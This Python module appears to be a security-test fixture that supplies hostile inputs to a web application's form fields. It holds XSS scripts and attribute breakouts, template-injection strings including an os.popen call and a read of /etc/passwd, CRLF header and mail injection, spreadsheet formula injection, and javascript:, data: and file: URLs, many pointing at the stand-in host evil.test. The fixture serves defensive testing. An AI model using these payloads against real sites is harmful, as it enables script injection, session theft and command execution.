"""What hostile people type: texts that would run as script, as a template or as a line of a header (C16, C17, C19).

Every script in here sets `evil`, asks evil.test or opens a dialog; a template that ran would print 54439 (7777 * 7).
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle

#: A text that no page may show: some template has counted.
COUNTED = "54439"
FOREIGN = "evil.test"

SCRIPTS = (
    "<script>evil=1</script>",
    "</script><script>evil=1</script>",
    "<script src=//evil.test/x.js></script>",
    "</title><script>evil=1</script>",
    "</textarea><script>evil=1</script>",
    "</style><script>evil=1</script>",
    "--><script>evil=1</script>",
    "]]><script>evil=1</script>",
    "<!--<script>evil=1</script>",
    "<img src=x onerror=evil=1>",
    "<img src=//evil.test/p.png>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=evil=1>",
    "<svg/onload=alert(1)//",
    "<svg><script>evil=1</script></svg>",
    '<svg><a xlink:href="javascript:evil=1"><text>x</text></a>',
    "<svg><animate onbegin=evil=1 attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=evil=1></math>",
    "<body onload=evil=1>",
    "<iframe src=javascript:evil=1>",
    '<iframe srcdoc="<script>parent.evil=1</script>">',
    "<object data=//evil.test/x></object>",
    "<embed src=//evil.test/x>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=0;url=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css'</style>",
    "<p style=background:url(//evil.test/x)>x</p>",
    "<form action=//evil.test/><button>x</button></form>",
    "<input autofocus onfocus=evil=1>",
    "<details open ontoggle=evil=1>",
    "<video><source onerror=evil=1></video>",
    "<audio src=x onerror=evil=1>",
    "<marquee onstart=evil=1>",
    "<isindex action=//evil.test/>",
    "<noscript><p title='</noscript><img src=x onerror=evil=1>'>",
    "<xss contenteditable onfocus=evil=1 autofocus>",
    "<template><script>evil=1</script></template>",
    "<p hx-get=//evil.test/ hx-trigger=load>x</p>",
    "<p hx-on:load=evil=1 data-hx-on--load=evil=1>x</p>",
    "<button hx-post=/account/sign-out hx-trigger=load>x</button>",
    '" onmouseover=evil=1 autofocus onfocus=evil=1 x="',
    "' onmouseover=evil=1 autofocus onfocus=evil=1 x='",
    '"><svg onload=evil=1>',
    "'><svg onload=evil=1>",
    '"></script><svg onload=evil=1>',
    "`-alert(1)-`",
    "';evil=1;//",
    '";evil=1;//',
    "\\';evil=1;//",
    "${evil=1}",
    "javascript:evil=1",
    "<a href=javascript:evil=1>x</a>",
    '<a href="java\tscript:evil=1">x</a>',
    '<a href="&#106;avascript:evil=1">x</a>',
    '<a href="data:text/html,<script>evil=1</script>">x</a>',
    '<a href="vbscript:evil=1">x</a>',
    '<a href="/" target=_blank ping=//evil.test/ onclick=evil=1>x</a>',
    "<scr<script>ipt>evil=1</script>",
    "<ScRiPt >evil=1</sCrIpT>",
    "<script\x0c>evil=1</script>",
    "<script/x>evil=1</script>",
    "&lt;script&gt;evil=1&lt;/script&gt;",
    "%3Cscript%3Eevil=1%3C/script%3E",
    "\\u003cscript\\u003eevil=1\\u003c/script\\u003e",
    "\uff1cscript\uff1eevil=1\uff1c/script\uff1e",
    "{};}*{background:url(//evil.test/x)}",
    "expression(evil=1)",
    "@import url(//evil.test/x.css);",
)

TEMPLATES = (
    "{{7777*7}}",
    "{% print(7777*7) %}",
    "{{config}}{{request}}{{self}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{cycler.__init__.__globals__.os.popen('id')}}",
    "{# x #}{%raw%}{{7777*7}}{%endraw%}",
    "${7777*7}",
    "#{7777*7}",
    "*{7777*7}",
    "@(7777*7)",
    "<%= 7777*7 %>",
    "[[7777*7]]",
    "{{=7777*7}}",
    "#set($x=7777*7)${x}",
    "{0.__class__}{name!r}{event.__init__.__globals__}",
    "%(name)s%(secret_key)s",
    "100 % (of)s %s %d %n %",
    "$name ${name} $(id) `id`",
    '#read("/etc/passwd") #eval("7777*7")',
    "*_x_* = y $7777*7$ @label <lab> \\ / // /* #{",
)

#: No header, line or row may come apart at these. A NUL is for those who type, not for what a database keeps.
CONTROLS = (
    "a\r\nSet-Cookie: evil=1",
    "a\nBcc: x@evil.test",
    "a\x0b\x0c\x1b[31mb",
    "a\u2028b\u2029c\u0085d",
    "\u202egnp.exe\u2066\u200f\ufeff",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b" * 3,
    "=1+1|cmd",
    "@SUM(1)",
    "\U0001f480\U0001f468\u200d\U0001f469\u200d\U0001f467",
)
TEXTS = (*SCRIPTS, *TEMPLATES, *CONTROLS)

#: Addresses that the form takes, as nasty as they come ...
LINKS = (
    'https://evil.test/"onmouseover=evil=1',
    "https://evil.test/'><script>evil=1</script>",
    "/en/'><svg/onload=evil=1>",
    '/en/"><svg/onload=evil=1>{{7777*7}}',
    "mailto:x@evil.test?subject=<script>evil=1</script>",
    "#'><img/src=x/onerror=evil=1>",
    "https://user:pass@evil.test/",
    "tel:+48",
    "/%0d%0aSet-Cookie:evil=1",
    "https://[::1]/",
)
#: ... and those that may stand in a row only because somebody put them there.
BAD_LINKS = (
    "javascript:evil=1",
    "JaVaScRiPt:evil=1",
    "java\tscript:evil=1",
    "\x01javascript:evil=1",
    " javascript:evil=1",
    "data:text/html,<script>evil=1</script>",
    "vbscript:evil=1",
    "//evil.test/",
    "/\\evil.test/",
    "\\\\evil.test/",
    "/\t/evil.test/",
    "https:evil.test",
    "file:///etc/passwd",
    "blob:https://evil.test/x",
    "&#106;avascript:evil=1",
    "javascript&colon;evil=1",
)


class Supply:
    """Gives out payloads in turn, so that every one of them comes into some field after few fields."""

    def __init__(self, *more: str) -> None:
        self._texts = cycle((*TEXTS, *more))
        self._html = cycle(SCRIPTS)
        self._links = cycle(LINKS)
        self._bad_links = cycle(BAD_LINKS)

    def text(self, longest: int, joint: str = " ") -> str:
        """As many as fit, at least a part of one."""
        parts = [next(self._texts)]
        while len(joint.join(parts)) < min(longest, 120):
            parts.append(next(self._texts))
        return joint.join(parts)[:longest]

    def html(self, count: int = 8) -> str:
        """Paragraphs with scripts and links between them."""
        links = "".join(f"<a href=\"{next(self._bad_links)}\" title='{next(self._html)}'>x</a>" for _ in range(3))
        return "".join(f"<p>{next(self._html)} {text}</p>" for text in self._some(count)) + links

    def _some(self, count: int) -> Iterator[str]:
        return (next(self._texts) for _ in range(count))

    def link(self) -> str:
        """One that the forms take."""
        return next(self._links)

    def bad_link(self) -> str:
        """One that they do not."""
        return next(self._bad_links)
